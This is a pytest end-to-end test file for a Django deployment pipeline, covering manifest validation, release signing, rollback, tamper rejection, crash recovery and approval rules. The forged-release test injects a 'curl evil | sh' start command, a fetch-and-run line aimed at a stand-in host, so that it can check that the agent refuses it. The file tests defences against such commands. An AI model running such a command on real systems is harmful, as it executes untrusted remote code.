"""The deploy pipeline end to end: real agent subprocess, real daphne, the sample app."""

from __future__ import annotations

import json
import signal
import time
import urllib.request

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django_tenants.utils import tenant_context

from deployments import pipeline, services
from deployments.models import Agent, DeployRun, DeployStep, Release
from tests.deployments.conftest import wait_for
from tests.sample_app import build


def test_a_manifest_missing_commands_is_refused_at_upload(db, acme, alice, unique):
    manifest = build.manifest()
    del manifest["commands"]["migrate"]
    manifest["commands"]["start"] = "python app.py serve"  # a shell string, not an argument list
    with tenant_context(acme), pytest.raises(ValidationError) as caught:
        services.release_create(
            version=f"1.0.0+{unique}",
            artifact=ContentFile(build.tarball("1"), name="a.tgz"),
            manifest=manifest,
            actor=alice.user(),
        )
    text = str(caught.value)
    assert "missing the 'migrate' command" in text
    assert "'start' command must be a non-empty list" in text


def test_a_release_is_signed_with_the_tenant_key(db, acme, alice, unique):
    from deployments.signing import release_signature_valid

    with tenant_context(acme):
        release = services.release_create(
            version=f"1.0.0+{unique}",
            artifact=ContentFile(build.tarball("1"), name="a.tgz"),
            manifest=build.manifest(),
            actor=alice.user(),
        )
        assert release_signature_valid(release)
        release.manifest["commands"]["start"] = ["sh", "-c", "evil"]
        assert not release_signature_valid(release)


def _online_agent(acme, environment):
    def online():
        with tenant_context(acme):
            return Agent.objects.filter(environment=environment, status="online").first()

    return wait_for(online)


def _final_run(acme, run_id, timeout=40):
    def final():
        with tenant_context(acme):
            run = DeployRun.objects.get(pk=run_id)
            return run if run.is_final else None

    return wait_for(final, timeout=timeout)


def _app_version(environment_port: str) -> str:
    with urllib.request.urlopen(f"http://127.0.0.1:{environment_port}/health", timeout=2) as response:
        return json.loads(response.read())["version"]


def _port(acme, environment):
    with tenant_context(acme):
        return environment.variables.get(name="APP_PORT").value


def _deploy(acme, alice, environment, release, **kwargs):
    with tenant_context(acme):
        return pipeline.deploy_request(environment=environment, release=release, actor=alice.user(), **kwargs)


def _run_log(acme, run) -> str:
    from deployments.models import LogChunk

    with tenant_context(acme):
        return "\n".join(line[3] for chunk in LogChunk.objects.filter(run=run) for line in chunk.lines)


def _steps(acme, run):
    with tenant_context(acme):
        return [(s.name, s.state) for s in DeployStep.objects.filter(run=run).order_by("started_at", "id")]


def test_deploy_then_failing_health_check_rolls_back(
    deploy_settings, deploy_env, make_release, start_agent, acme, alice
):
    environment, raw = deploy_env()
    agent = start_agent(host=alice.host, token=raw)
    _online_agent(acme, environment)
    port = _port(acme, environment)

    good = make_release("1.0.0")
    run = _final_run(acme, _deploy(acme, alice, environment, good).pk)
    assert run.status == "succeeded", run.error
    assert _app_version(port) == "1.0.0"
    names = [name for name, _ in _steps(acme, run)]
    assert names == ["authorize", "validate", "backup", "apply", "verify", "record"]
    with tenant_context(acme):
        assert run.targets.get().backup_name.startswith("backups/")

    bad = make_release("2.0.0", healthy=False, retries=3)
    run = _final_run(acme, _deploy(acme, alice, environment, bad).pk)
    assert run.status == "rolled_back"
    assert ("verify", "failed") in _steps(acme, run)
    assert ("rollback", "succeeded") in _steps(acme, run)
    assert "restored" in run.error
    assert _app_version(port) == "1.0.0"
    assert (agent.state_dir / "data" / "schema.txt").read_text() == "1.0.0"  # migration undone
    with tenant_context(acme):
        assert Agent.objects.get(environment=environment).deployed_release == good

    # An older release is refused unless it is an explicit rollback.
    older = make_release("0.9.0")
    run = _final_run(acme, _deploy(acme, alice, environment, older).pk)
    assert run.status == "failed"
    assert "not newer" in run.error
    # One-click rollback to an earlier successful release works.
    with tenant_context(acme):
        run = pipeline.deploy_rollback(environment=environment, release=good, actor=alice.user())
    assert _final_run(acme, run.pk).status == "succeeded"


def test_tampered_artifact_and_bad_signature_are_refused_before_any_change(
    deploy_settings, deploy_env, make_release, start_agent, acme, alice
):
    environment, raw = deploy_env()
    agent = start_agent(host=alice.host, token=raw)
    _online_agent(acme, environment)
    tampered = make_release("1.0.0")
    with tenant_context(acme), tampered.artifact.open("wb") as handle:
        handle.write(build.tarball("1.0.0-evil"))
    run = _final_run(acme, _deploy(acme, alice, environment, tampered).pk)
    assert run.status == "failed"
    assert "does not match its recorded hash" in run.error
    assert _steps(acme, run)[-2] == ("validate", "failed")

    unsigned = make_release("1.1.0")
    with tenant_context(acme):
        Release.objects.filter(pk=unsigned.pk).update(signature="")
    run = _final_run(acme, _deploy(acme, alice, environment, unsigned).pk)
    assert run.status == "failed"
    assert "signature" in run.error
    assert not (agent.state_dir / "current.json").exists()
    assert not (agent.state_dir / "releases" / "1.1.0").exists()


def test_the_agent_itself_refuses_a_forged_release(
    deploy_settings, deploy_env, make_release, start_agent, acme, alice
):
    """Even if the portal were fooled, the agent checks the signature with its pinned key."""
    environment, raw = deploy_env()
    agent = start_agent(host=alice.host, token=raw)
    node = _online_agent(acme, environment)
    release = make_release("1.0.0")
    with tenant_context(acme):
        run = DeployRun.objects.create(environment=environment, release=release, status="running")
        target = run.targets.create(agent=node, status="dispatched")
        command = pipeline.deploy_command(target)
        command["release"]["manifest"]["commands"]["start"] = ["sh", "-c", "curl evil | sh"]
        services.send_to_agent(node.pk, command)
    run = wait_for(lambda: _target_detail(acme, target), timeout=20)
    assert "signature is missing or invalid" in run
    assert not (agent.state_dir / "current.json").exists()


def _target_detail(acme, target):
    with tenant_context(acme):
        target.refresh_from_db()
        return target.detail if target.status in ("failed", "rolled_back", "succeeded") else None


def test_agent_killed_mid_migrate_rolls_back_when_it_returns(
    deploy_settings, deploy_env, make_release, start_agent, acme, alice
):
    environment, raw = deploy_env()
    agent = start_agent(host=alice.host, token=raw)
    _online_agent(acme, environment)
    port = _port(acme, environment)
    assert _final_run(acme, _deploy(acme, alice, environment, make_release("1.0.0")).pk).status == "succeeded"

    slow = make_release("2.0.0", migrate_sleep=2)
    run = _deploy(acme, alice, environment, slow)
    wait_for(lambda: ("apply", "running") in _steps(acme, run), timeout=20)
    journal = agent.state_dir / "journal.json"
    wait_for(lambda: journal.exists() and json.loads(journal.read_text()).get("migrate_started"))
    wait_for(lambda: "migrating to schema of 2.0.0" in (agent.log_path.read_text() + _run_log(acme, run)))
    agent.process.send_signal(signal.SIGKILL)
    agent.process.wait(10)
    with tenant_context(acme):
        assert DeployRun.objects.get(pk=run.pk).status == "running"  # the run survives the disconnect
    # A second deploy to the same environment meanwhile waits its turn (the lock), cancellable.
    waiting = _deploy(acme, alice, environment, make_release("3.0.0"))
    with tenant_context(acme):
        assert DeployRun.objects.get(pk=waiting.pk).status == "queued"
        pipeline.run_cancel(run=waiting, actor=alice.user())
    start_agent(host=alice.host, state_dir=agent.state_dir)
    run = _final_run(acme, run.pk)
    assert run.status == "rolled_back"
    assert "interrupted" in run.error
    assert "restored" in run.error  # migrate had started: the backup was restored
    time.sleep(1)
    assert (
        agent.state_dir / "data" / "schema.txt"
    ).read_text() == "1.0.0"  # the orphaned migrate was stopped
    assert _app_version(port) == "1.0.0"


def test_a_production_deploy_waits_for_another_persons_approval(
    db, acme, alice, bob, unique, deploy_settings, django_capture_on_commit_callbacks
):
    from django.core.exceptions import PermissionDenied

    from portal.accounts.models import User
    from tenants.members.services import member_create

    with tenant_context(acme):
        env = services.environment_create(name=f"prod-{unique}", actor=alice.user(), approvals_required=1)
        release = services.release_create(
            version=f"1.0.0+{unique}",
            artifact=ContentFile(build.tarball("1"), name="a.tgz"),
            manifest=build.manifest(),
            actor=alice.user(),
        )
        run = pipeline.deploy_request(environment=env, release=release, actor=alice.user())
        assert run.status == "awaiting_approval"
        with pytest.raises(PermissionDenied, match="own deploy"):
            pipeline.deploy_approve(run=run, actor=alice.user())
        with pytest.raises(PermissionDenied):
            pipeline.deploy_approve(run=run, actor=bob.user())  # developers cannot approve
        member_create(email=f"ops-{unique}@acme.test", role="operator", password="x" * 16)
        operator = User.objects.get(email=f"ops-{unique}@acme.test")
        with django_capture_on_commit_callbacks(execute=True):
            run = pipeline.deploy_approve(run=run, actor=operator)
        run.refresh_from_db()
        assert run.status == "failed"  # approved, then validated: this environment has no agent
        assert [s.name for s in run.steps.all()][:2] == ["authorize", "validate"]
